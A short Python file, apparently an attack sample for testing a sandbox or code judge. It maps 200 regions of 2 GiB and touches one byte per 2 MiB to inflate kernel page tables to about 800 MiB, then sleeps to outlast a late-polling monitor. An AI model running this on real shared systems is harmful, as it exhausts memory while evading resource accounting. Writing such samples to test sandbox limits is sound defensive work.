"""Reads much address space that has no memory, one page in 2 MiB: the tables of where it would be take 800 MiB."""

import mmap
import time


def attack(target: dict[str, str]) -> None:
    maps, read = [], 0
    for _ in range(200):
        space = mmap.mmap(-1, 2 * 2**30, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ)
        maps.append(space)
        for place in range(0, len(space), 2**21):
            read += space[place]
    time.sleep(20)  # a busy judge polls late
    print("HARM: holds", len(maps) * 4, "MiB")
